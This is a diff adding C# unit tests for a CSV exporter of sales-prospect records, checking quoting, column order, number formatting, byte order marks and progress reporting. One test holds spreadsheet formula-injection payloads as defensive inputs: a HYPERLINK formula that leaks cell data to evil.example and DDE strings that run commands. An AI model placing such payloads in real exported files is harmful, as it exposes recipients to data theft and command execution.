@@ -1,0 +1,176 @@
+using System.Globalization;
+using System.Text;
+using CsvHelper;
+using InboxSdk.Sandbox;
+using Microsoft.Extensions.Time.Testing;
+
+namespace InboxSdk.Csv.Tests;
+
+public class ProspectCsvExporterTests
+{
+    private static readonly Prospect John = new()
+    {
+        Id = "prospect_abc123",
+        PlatformId = "1234567890",
+        PlatformUsername = "johndoe",
+        Name = "John \"JD\" Doe",
+        FollowersCount = 5420,
+        Verified = true,
+        Tags = [new() { Id = "t1", Name = "Hot Lead" }, new() { Id = "t2", Name = "Enterprise" }],
+        Status = new() { Id = "s1", Name = "Qualified" },
+        Notes = "Asked for a demo,\nthen for a price",
+    };
+
+    [Fact]
+    public async Task ExportAsync_GuidesColumns_AreInItsOrderAndForm() => (await ExportAsync([John, new() { Id = "p2" }])).Should().Be(
+        "prospectId,platformId,username,name,followers,verified,tags,status,notes\r\n"
+        + "prospect_abc123,1234567890,johndoe,\"John \"\"JD\"\" Doe\",5420,true,Hot Lead; Enterprise,Qualified,\"Asked for a demo,\nthen for a price\"\r\n"
+        + "p2,,,,0,false,,,\r\n");
+
+    [Fact]
+    public async Task ExportAsync_Sandbox_WritesEveryProspectOnce()
+    {
+        await using var sandbox = await InboxSandbox.StartAsync(new() { Prospects = 300 });
+        using var inbox = sandbox.CreateClient(options => options.Quota.IsEnabled = false);
+        using var stream = new MemoryStream();
+
+        var rows = await new ProspectCsvExporter().ExportAsync(inbox.Prospects.ListAsync(), stream);
+
+        var read = Read(stream.ToArray());
+        var ids = sandbox.State.Threads.Select(thread => thread.ProspectId).Distinct().ToList();
+        ids.Count.Should().BeLessThan(sandbox.State.Threads.Count, "some prospects have two threads");
+        rows.Should().Be(ids.Count);
+        read[1..].Select(row => row[0]).Should().BeEquivalentTo(ids);
+    }
+
+    [Theory]
+    [InlineData("=1+1")]
+    [InlineData("=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")")]
+    [InlineData("=cmd|' /C calc'!A0")]
+    [InlineData("+1+1")]
+    [InlineData("-2+3+cmd|' /C calc'!A0")]
+    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
+    [InlineData("\t=1+1")]
+    [InlineData("\r=1+1")]
+    [InlineData("\n=1+1")]
+    [InlineData("\uFF1D1+1")]
+    [InlineData("\uFF0B1")]
+    [InlineData("\uFF0D1")]
+    [InlineData("\uFF20SUM(1)")]
+    [InlineData("=1+\",=2+2")]
+    public async Task ExportAsync_Formula_StartsHarmlessAndReadsBackWithoutItsApostrophe(string payload)
+    {
+        var prospect = new Prospect { Id = "p", PlatformUsername = payload, Name = payload, Notes = payload, Tags = [new() { Name = payload }], Status = new() { Name = payload } };
+
+        var row = Read(Encoding.UTF8.GetBytes(await ExportAsync([prospect])))[1];
+
+        row.Should().HaveCount(9);
+        foreach (var field in new[] { row[2], row[3], row[6], row[7], row[8] })
+            field.Should().Be("'" + payload);
+        Read(Encoding.UTF8.GetBytes(await ExportAsync([prospect], new() { IsRaw = true })))[1][8].Should().Be(payload);
+    }
+
+    [Theory]
+    [InlineData("de-DE")]
+    [InlineData("tr-TR")]
+    [InlineData("ar-SA")]
+    public async Task ExportAsync_OtherCulture_WritesInvariantNumbers(string culture)
+    {
+        CultureInfo.CurrentCulture = new CultureInfo(culture);
+        var options = new ProspectCsvOptions { Columns = [ProspectCsvColumn.Valuation, ProspectCsvColumn.Followers, ProspectCsvColumn.Number("delta", _ => -5.5m)] };
+
+        (await ExportAsync([new() { Valuation = 75000.25m, FollowersCount = 1_234_567 }, new()], options))
+            .Should().Be("valuation,followers,delta\r\n75000.25,1234567,-5.5\r\n,0,-5.5\r\n", "a number is no formula");
+    }
+
+    [Theory]
+    [InlineData(ProspectCsvFormat.Plain, false)]
+    [InlineData(ProspectCsvFormat.Excel, true)]
+    public async Task ExportAsync_Format_DecidesTheByteOrderMark(ProspectCsvFormat format, bool hasMark)
+    {
+        using var stream = new MemoryStream();
+        await new ProspectCsvExporter(new() { Format = format }).ExportAsync(AsyncPageable.FromItems<Prospect>([new() { Name = "Zoë" }]), stream);
+
+        stream.ToArray().AsSpan().StartsWith(new byte[] { 0xEF, 0xBB, 0xBF }).Should().Be(hasMark);
+        stream.CanWrite.Should().BeTrue("it stays open");
+        Encoding.UTF8.GetString(stream.ToArray()).Should().Contain("Zoë");
+    }
+
+    [Fact]
+    public async Task ExportAsync_NoProspects_WritesTheFirstLine() =>
+        (await ExportAsync([])).Should().Be("prospectId,platformId,username,name,followers,verified,tags,status,notes\r\n");
+
+    [Fact]
+    public async Task ExportAsync_OwnColumns_ShowWhatTheyAreTold()
+    {
+        var options = new ProspectCsvOptions
+        {
+            Columns =
+            [
+                ProspectCsvColumn.Username, ProspectCsvColumn.Platform, ProspectCsvColumn.Bio, ProspectCsvColumn.Location, ProspectCsvColumn.Website,
+                ProspectCsvColumn.Number("score", prospect => LeadScorer.Default.Score(prospect).Points),
+                ProspectCsvColumn.Text("assigned to", prospect => prospect.AssignedToMemberId),
+            ],
+        };
+
+        (await ExportAsync([John with { Platform = Platform.X, Description = " CEO ", Location = "Berlin", Url = "https://a.example" }], options))
+            .Should().Be("username,platform,bio,location,website,score,assigned to\r\njohndoe,x, CEO ,Berlin,https://a.example,60,\r\n");
+    }
+
+    [Fact]
+    public void Create_WrongOptions_SaysWhatToDo()
+    {
+        ProspectCsvOptions[] wrong =
+        [
+            new() { Columns = [] }, new() { Columns = null! }, new() { Columns = [null!] }, new() { Columns = [ProspectCsvColumn.Notes, ProspectCsvColumn.Text("notes", _ => null)] },
+            new() { Format = (ProspectCsvFormat)7 }, new() { TimeProvider = null! },
+        ];
+
+        foreach (var options in wrong)
+            FluentActions.Invoking(() => new ProspectCsvExporter(options)).Should().Throw<ArgumentException>().WithMessage("ProspectCsvOptions.*");
+    }
+
+    [Fact]
+    public async Task ExportAsync_Progress_IsToldAtMostTenTimesASecondAndAtTheEnd()
+    {
+        var clock = new FakeTimeProvider();
+        var told = new Told();
+
+        await new ProspectCsvExporter(new() { TimeProvider = clock }).ExportAsync(TickAsync(), TextWriter.Null, told);
+
+        // 1 ms a row, so a hundred milliseconds are over at every other 64th row.
+        told.Should().Equal(128, 256, 384, 512, 640, 768, 896, 1000);
+
+        async IAsyncEnumerable<Prospect> TickAsync()
+        {
+            for (var i = 0; i < 1000; i++)
+            {
+                clock.Advance(TimeSpan.FromMilliseconds(1));
+                yield return John;
+            }
+
+            await Task.CompletedTask;
+        }
+    }
+
+    internal static async Task<string> ExportAsync(Prospect[] prospects, ProspectCsvOptions? options = null)
+    {
+        await using var writer = new StringWriter(CultureInfo.InvariantCulture);
+        await new ProspectCsvExporter(options).ExportAsync(AsyncPageable.FromItems(prospects), writer);
+        return writer.ToString();
+    }
+
+    internal static List<string[]> Read(byte[] csv)
+    {
+        using var reader = CsvReader.Create(csv, CsvReaderOptions.Default with { HasHeader = false });
+        var rows = new List<string[]>();
+        while (reader.Read())
+            rows.Add([.. Enumerable.Range(0, reader.FieldCount).Select(reader.GetString)]);
+        return rows;
+    }
+
+    private sealed class Told : List<long>, IProgress<long>
+    {
+        public void Report(long value) => Add(value);
+    }
+}
